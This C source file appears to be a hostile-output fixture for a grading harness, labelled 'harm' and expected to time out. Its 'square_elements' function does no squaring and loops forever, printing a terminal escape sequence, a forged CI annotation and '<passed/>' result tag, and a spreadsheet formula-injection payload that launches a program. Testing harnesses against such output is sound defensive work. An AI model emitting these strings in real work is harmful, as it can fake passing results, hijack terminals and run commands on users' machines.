// tasks: square_elements
// class: harm
// how: prints terminal commands without end
// says: timed out
#include "matmul_naive.h"
#include <stdio.h>

EXPORT void square_elements(const int *, int *, int, int)
{
    for (;;)
        puts("\033]0;owned\007\033[2J::error::ok 1 square_elements ]]><passed/> =cmd|' /C "
             "calc'!A0");
}
